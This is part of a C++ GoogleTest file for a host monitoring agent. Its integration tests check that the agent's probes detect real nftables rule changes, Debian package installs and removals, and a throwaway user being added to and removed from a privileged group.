TEST(SettingsSourceRealTest, NftablesRuleAddedAndRemovedIsDetectedByProbe) {
  // scripts/install-deps.sh installs nftables, and CI runs as root: there this test must run.
  const bool root = ::geteuid() == 0;
  if (::access("/usr/sbin/nft", X_OK) != 0) {
    if (root) FAIL() << "/usr/sbin/nft is missing: run scripts/install-deps.sh (nftables)";
    GTEST_SKIP() << "NOT TESTED: /usr/sbin/nft is missing (apt-get install nftables)";
  }
  auto probe = testing::Run({"/usr/sbin/nft", "list", "ruleset"}, std::chrono::seconds(10));
  if (probe.exit_code != 0) {
    if (root) FAIL() << "running as root but 'nft list ruleset' fails: " << probe.err;
    GTEST_SKIP() << "NOT TESTED: 'nft list ruleset' fails here (needs root/CAP_NET_ADMIN): "
                 << probe.err;
  }
  testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
               std::chrono::seconds(10));
  testing::TempDir dir;
  SettingsSourceOptions o;
  o.watched = {};
  o.state_dir = dir.Sub("state");
  o.probe_interval = std::chrono::hours(1);
  o.firewall_commands = {{"/usr/sbin/nft", "list", "ruleset"}};
  auto created = SettingsSource::Create(o, RealClock());
  ASSERT_TRUE(created.ok());
  auto source = std::move(*created);
  CollectingSink sink;
  ASSERT_TRUE(source->Start(&sink).ok());

  struct Cleanup {
    ~Cleanup() {
      testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
                   std::chrono::seconds(10));
    }
  } cleanup;
  for (const auto& cmd : std::vector<std::vector<std::string>>{
           {"/usr/sbin/nft", "add", "table", "inet", "custos_test"},
           {"/usr/sbin/nft", "add", "chain", "inet", "custos_test", "input",
            "{ type filter hook input priority 0; policy accept; }"},
           {"/usr/sbin/nft", "add", "rule", "inet", "custos_test", "input", "tcp", "dport", "65111",
            "counter", "drop"}}) {
    auto r = testing::Run(cmd, std::chrono::seconds(10));
    ASSERT_EQ(r.exit_code, 0) << cmd[2] << ": " << r.err;
  }
  source->ProbeNow();
  auto e = sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
                        std::chrono::milliseconds(0));
  ASSERT_TRUE(e) << "firewall probe missed the added rule";
  EXPECT_NE(e->setting().summary().find("+ table inet custos_test {"), std::string::npos)
      << e->setting().summary();
  EXPECT_NE(e->setting().summary().find("+ tcp dport 65111 counter packets bytes drop"),
            std::string::npos)
      << e->setting().summary();
  EXPECT_NE(e->setting().old_value(), e->setting().new_value());

  sink.Clear();
  source->ProbeNow();  // counters only differ: nothing to report
  EXPECT_FALSE(sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
                            std::chrono::milliseconds(0)));

  auto r = testing::Run({"/usr/sbin/nft", "delete", "table", "inet", "custos_test"},
                        std::chrono::seconds(10));
  ASSERT_EQ(r.exit_code, 0) << r.err;
  source->ProbeNow();
  e = sink.WaitFor(Setting("firewall", "ruleset", custos::v1::OBSERVED_BY_PROBE),
                   std::chrono::milliseconds(0));
  ASSERT_TRUE(e) << "firewall probe missed the removed table";
  EXPECT_NE(e->setting().summary().find("- table inet custos_test {"), std::string::npos)
      << e->setting().summary();
  source->Stop();
}

// ---- Real-system helpers: programs by absolute path (testing::Run does no PATH search) ----

std::string FindProgram(const std::string& name) {
  for (const char* dir : {"/usr/sbin/", "/usr/bin/", "/sbin/", "/bin/"}) {
    const std::string path = dir + name;
    if (::access(path.c_str(), X_OK) == 0) return path;
  }
  return "";
}

// dpkg looks for ldconfig, start-stop-daemon, ... in PATH, which may lack the sbin directories.
const std::map<std::string, std::string>& SystemPath() {
  static const std::map<std::string, std::string> kEnv = {
      {"PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}};
  return kEnv;
}

testing::RunResult RunTool(const std::vector<std::string>& argv) {
  return testing::Run(argv, std::chrono::seconds(120), SystemPath());
}

// Runs f on scope exit (also when an ASSERT returns early).
class ScopeExit {
 public:
  explicit ScopeExit(std::function<void()> f) : f_(std::move(f)) {}
  ~ScopeExit() { f_(); }
  ScopeExit(const ScopeExit&) = delete;
  ScopeExit& operator=(const ScopeExit&) = delete;

 private:
  std::function<void()> f_;
};

// A setting change with this area, key and new value, whoever saw it (watch or probe).
std::function<bool(const Event&)> Change(const std::string& area, const std::string& key,
                                         const std::string& new_value) {
  return [=](const Event& e) {
    return e.has_setting() && e.setting().area() == area && e.setting().key() == key &&
           e.setting().new_value() == new_value;
  };
}

// Real dpkg: a tiny package installed and removed is seen by the dpkg probe reading the host's
// /var/lib/dpkg/status (root_prefix empty).
TEST(SettingsSourceRealTest, DebianPackageInstalledAndRemovedIsDetectedByProbe) {
  constexpr char kPkg[] = "custos-probe-test";
  // CI runs as root on Debian (dpkg is essential there): there this test must run.
  const bool root = ::geteuid() == 0;
  const bool debian = ::access("/etc/debian_version", F_OK) == 0;
  const std::string dpkg = FindProgram("dpkg");
  const std::string dpkg_deb = FindProgram("dpkg-deb");
  if (dpkg.empty() || dpkg_deb.empty() || ::access("/var/lib/dpkg/status", R_OK) != 0) {
    if (root && debian) {
      FAIL() << "root on Debian but dpkg, dpkg-deb or a readable /var/lib/dpkg/status is missing";
    }
    GTEST_SKIP() << "NOT TESTED: dpkg, dpkg-deb or /var/lib/dpkg/status is missing (not Debian)";
  }
  if (!root) GTEST_SKIP() << "NOT TESTED: installing a package (dpkg -i) needs root";

  // Left installed by an earlier crashed run? Purging a package that is not there is a no-op.
  auto purge = RunTool({dpkg, "--purge", kPkg});
  ASSERT_EQ(purge.exit_code, 0) << "dpkg --purge " << kPkg << ": " << purge.err;
  ScopeExit cleanup([&] { RunTool({dpkg, "--purge", kPkg}); });

  // The package: control file and one documentation file, owned by root (--root-owner-group).
  testing::TempDir dir;
  const std::string pkgroot = dir.Sub("pkg");
  const std::string docdir = pkgroot + "/usr/share/doc/" + kPkg;
  for (const std::string& d : {pkgroot, pkgroot + "/DEBIAN", pkgroot + "/usr",
                               pkgroot + "/usr/share", pkgroot + "/usr/share/doc", docdir}) {
    ASSERT_EQ(::mkdir(d.c_str(), 0755), 0) << d;
    ASSERT_EQ(::chmod(d.c_str(), 0755), 0) << d;  // dpkg-deb rejects a DEBIAN dir under umask 077
  }
  ASSERT_TRUE(testing::WriteFile(pkgroot + "/DEBIAN/control",
                                 std::string("Package: ") + kPkg +
                                     "\nVersion: 1.0\nArchitecture: all\n"
                                     "Maintainer: Custos tests <tests@custos.invalid>\n"
                                     "Section: misc\nPriority: optional\n"
                                     "Description: Custos settings source test package\n"
                                     " Installed and purged by settings_source_test.\n")
                  .ok());
  ASSERT_TRUE(testing::WriteFile(docdir + "/README", "custos settings source test\n").ok());
  for (const std::string& f : {pkgroot + "/DEBIAN/control", docdir + "/README"}) {
    ASSERT_EQ(::chmod(f.c_str(), 0644), 0) << f;
  }
  const std::string deb = dir.Sub(std::string(kPkg) + "_1.0_all.deb");
  auto built = RunTool({dpkg_deb, "--root-owner-group", "--build", pkgroot, deb});
  ASSERT_EQ(built.exit_code, 0) << "dpkg-deb --build: " << built.err;

  SettingsSourceOptions o;
  o.watched = {};
  o.state_dir = dir.Sub("state");  // no state file yet: Start only records the baseline
  o.probe_interval = std::chrono::hours(1);
  o.firewall_commands = {};
  o.rpm_command = {};
  // root_prefix stays empty: the dpkg probe reads the real /var/lib/dpkg/status.
  auto created = SettingsSource::Create(o, RealClock());
  ASSERT_TRUE(created.ok()) << created.status().ToString();
  auto source = std::move(*created);
  CollectingSink sink;
  ASSERT_TRUE(source->Start(&sink).ok());
  EXPECT_FALSE(sink.WaitFor(Setting("packages", "dpkg", custos::v1::OBSERVED_BY_PROBE),
                            std::chrono::milliseconds(0)))
      << "the first Start should only record the baseline";

  auto installed = RunTool({dpkg, "-i", deb});
  ASSERT_EQ(installed.exit_code, 0) << "dpkg -i: " << installed.err;
  source->ProbeNow();
  auto e = sink.WaitFor(SummaryHas("dpkg", std::string("installed ") + kPkg + " 1.0"));
  ASSERT_TRUE(e) << "dpkg probe missed the installed package";
  EXPECT_EQ(e->setting().area(), "packages");
  EXPECT_EQ(e->setting().observed_by(), custos::v1::OBSERVED_BY_PROBE);
  EXPECT_NE(e->setting().old_value(), e->setting().new_value());

  sink.Clear();
  auto removed = RunTool({dpkg, "-r", kPkg});
  ASSERT_EQ(removed.exit_code, 0) << "dpkg -r: " << removed.err;
  source->ProbeNow();
  e = sink.WaitFor(SummaryHas("dpkg", std::string("removed ") + kPkg + " 1.0"));
  ASSERT_TRUE(e) << "dpkg probe missed the removed package";
  EXPECT_EQ(e->setting().area(), "packages");
  source->Stop();
}

// Real accounts: a throwaway user created, added to a privileged group and deleted with the
// shadow tools is seen in the host's /etc/passwd and /etc/group.
TEST(SettingsSourceRealTest, UserAddedToPrivilegedGroupIsDetected) {
  const std::string user = "custos-probe-u";
  const bool root = ::geteuid() == 0;
  const std::string useradd = FindProgram("useradd");
  const std::string userdel = FindProgram("userdel");
  const std::string gpasswd = FindProgram("gpasswd");
  const std::string groupadd = FindProgram("groupadd");
  const std::string groupdel = FindProgram("groupdel");
  if (useradd.empty() || userdel.empty() || gpasswd.empty() || groupadd.empty() ||
      groupdel.empty()) {
    if (root) FAIL() << "running as root but useradd/userdel/gpasswd/groupadd/groupdel missing";
    GTEST_SKIP() << "NOT TESTED: useradd/userdel/gpasswd/groupadd/groupdel missing (passwd)";
  }
  if (!root) GTEST_SKIP() << "NOT TESTED: useradd, gpasswd and userdel need root";

  // A privileged group from the source's list: sudo (Debian), else wheel, created if missing.
  std::string group = "sudo";
  bool created_group = false;
  if (getgrnam("sudo") == nullptr) {
    group = "wheel";
    if (getgrnam("wheel") == nullptr) {
      auto r = RunTool({groupadd, group});
      ASSERT_EQ(r.exit_code, 0) << "groupadd " << group << ": " << r.err;
      created_group = true;
    }
  }
  // Left behind by an earlier crashed run? userdel also drops the user's own group (usergroups)
  // and its membership in the privileged group; groupdel catches a group left on its own.
  auto remove_user = [&] {
    RunTool({userdel, user});
    RunTool({groupdel, user});
  };
  remove_user();
  ScopeExit cleanup([&] {
    remove_user();
    if (created_group) RunTool({groupdel, group});
  });
  ASSERT_EQ(getpwnam(user.c_str()), nullptr) << "could not remove a leftover " << user;

  testing::TempDir dir;
  SettingsSourceOptions o;
  o.watched = {{"accounts", "/etc/passwd"}, {"accounts", "/etc/group"}};
  o.state_dir = dir.Sub("state");  // no state file yet: Start only records the baseline
  o.probe_interval = std::chrono::hours(1);
  o.firewall_commands = {};
  o.rpm_command = {};
  auto created = SettingsSource::Create(o, RealClock());
  ASSERT_TRUE(created.ok()) << created.status().ToString();
  auto source = std::move(*created);
  CollectingSink sink;
  ASSERT_TRUE(source->Start(&sink).ok());
  for (const auto& ev : sink.Events()) {
    EXPECT_FALSE(ev.has_setting() && ev.setting().area() == "account") << ev.DebugString();
  }

  // --no-log-init: nothing written to lastlog/faillog for the throwaway uid.
  auto r =
      RunTool({useradd, "--no-create-home", "--no-log-init", "--shell", "/usr/sbin/nologin", user});
  ASSERT_EQ(r.exit_code, 0) << "useradd: " << r.err;
  const passwd* pw = getpwnam(user.c_str());
  ASSERT_NE(pw, nullptr);
  const std::string uid = std::to_string(pw->pw_uid);
  source->ProbeNow();  // a missed notification is found by the probe round
  auto e = sink.WaitFor(Change("account", "user:" + user, "created"));
  ASSERT_TRUE(e) << "user creation not reported";
  EXPECT_EQ(e->setting().summary(),
            "user " + user + " created (uid " + uid + ", shell /usr/sbin/nologin)");
  ASSERT_TRUE(sink.WaitFor(SummaryHas("/etc/passwd", "+ " + user + ":x:" + uid + ":")))
      << "no /etc/passwd change naming the new user";

  r = RunTool({gpasswd, "-a", user, group});
  ASSERT_EQ(r.exit_code, 0) << "gpasswd -a: " << r.err;
  source->ProbeNow();
  e = sink.WaitFor(Change("account", "group:" + group, user + " added"));
  ASSERT_TRUE(e) << "no account change for group:" << group;
  EXPECT_EQ(e->setting().summary(), user + " added to privileged group " + group);

  r = RunTool({userdel, user});
  ASSERT_EQ(r.exit_code, 0) << "userdel: " << r.err;
  source->ProbeNow();
  ASSERT_TRUE(sink.WaitFor(Change("account", "user:" + user, "deleted")))
      << "user deletion not reported";
  e = sink.WaitFor(Change("account", "group:" + group, user + " removed"));
  ASSERT_TRUE(e) << "userdel's removal from " << group << " not reported";
  EXPECT_EQ(e->setting().summary(), user + " removed from privileged group " + group);
  source->Stop();
}

}  // namespace
}  // namespace custos::agent::settings
